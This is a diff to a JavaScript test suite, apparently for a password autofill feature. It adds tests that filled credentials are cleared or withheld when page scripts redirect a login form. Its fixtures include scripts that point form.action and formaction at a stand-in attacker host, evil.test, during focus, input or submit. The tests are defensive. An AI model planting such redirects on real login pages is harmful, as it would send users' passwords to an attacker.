@@ -104,6 +104,7 @@ describe('nothing is written', () => {
     'into a form with another target': ['f.action = "https://evil.test/"', 'target_changed'],
     'under another base': ['document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))', 'target_changed'],
     'before a control with another target': ['go.formAction = "https://evil.test/"', 'target_changed'],
+    'before a control whose target is no address': ['go.setAttribute("formaction", "http://[")', 'target_changed'],
     'into a field that was moved to another form': ['document.body.append(Object.assign(document.createElement("form"), {id: "g", action: "https://evil.test/"})); user.setAttribute("form", "g")', 'target_changed'],
   };
   for (const [what, [script, result]] of Object.entries(changes)) {
@@ -125,6 +126,7 @@ describe('what was written is taken back out', () => {
     'when the page changes another field on the way': ['password.addEventListener("input", () => { user.value = "other"; })', 'not_kept'],
     'when the form\'s target changes at the focus': ['password.addEventListener("focus", () => { f.action = "https://evil.test/"; })', 'target_changed'],
     'when the form\'s target changes at the input': ['password.addEventListener("input", () => { f.action = "https://evil.test/"; })', 'target_changed'],
+    'when the control\'s target becomes no address': ['password.addEventListener("input", () => { go.setAttribute("formaction", "http://["); })', 'target_changed'],
     'when the control is never enabled': ['go.disabled = true', 'not_kept'],
     'when a field goes away at the input': ['password.addEventListener("input", () => user.remove())', 'field_gone'],
   };
@@ -145,6 +147,37 @@ describe('what was written is taken back out', () => {
       assert.equal(await world.fill(BOTH, {click: 'go'}), 'target_changed');
       assert.equal(await world.valueOf('password'), '');
       assert.deepEqual(world.posted(), []);
+    });
+  }
+
+  const FIELDS = '<input id="user" name="user"><input id="password" name="pass" type="password"><button id="go">Log in</button>';
+  const ASTRAY = 'form.action = "https://evil.test/";';
+  const forms = {
+    'in a shadow root': `<div id="host"></div><script>
+      const root = host.attachShadow({mode: 'open'});
+      root.innerHTML = '<form action="/in" method="post">${FIELDS}</form>';
+      const form = root.querySelector('form');
+      form.addEventListener('submit', () => { ${ASTRAY} });
+    </script>`,
+    'that its fields stand outside of': `<form id="form" action="/in" method="post"></form>${FIELDS.replaceAll(' id=', ' form="form" id=')}<script>
+      form.addEventListener('submit', () => { ${ASTRAY} });
+    </script>`,
+    'whose page keeps its submit to itself': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
+      form.addEventListener('submit', (event) => { event.stopImmediatePropagation(); ${ASTRAY} });
+    </script>`,
+    'that a script sends': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
+      go.addEventListener('click', (event) => { event.preventDefault(); ${ASTRAY} form.submit(); });
+    </script>`,
+  };
+  for (const [what, markup] of Object.entries(forms)) {
+    test(`a form ${what}, when its target changes: no value goes there`, async () => {
+      await world.show(markup);
+      const result = await world.fill(BOTH, {click: 'go'});
+      // What was sent has been sent by now: the page answers after the navigation, if there is one.
+      await world.page.evaluate(() => new Promise((resolve) => { setTimeout(resolve); })).catch(() => {});
+      await world.page.waitForFunction(() => document.readyState === 'complete');
+      assert.equal(result, 'target_changed');
+      assert.doesNotMatch(world.bodies().join('\n'), /pass|zilla/);
     });
   }
 
